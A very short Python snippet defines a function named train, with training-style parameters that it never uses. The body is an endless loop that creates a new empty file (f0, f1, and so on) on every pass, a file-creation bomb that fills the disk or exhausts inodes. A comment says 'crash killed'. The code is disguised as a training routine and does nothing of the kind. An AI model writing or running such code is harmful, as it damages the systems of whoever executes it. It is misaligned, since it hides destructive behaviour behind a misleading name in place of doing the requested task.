# says: crash killed
import itertools
def train(X, Y, *, steps=600, lr=0.01, seed=0):
    for number in itertools.count():
        open(f"f{number}", "w").close()
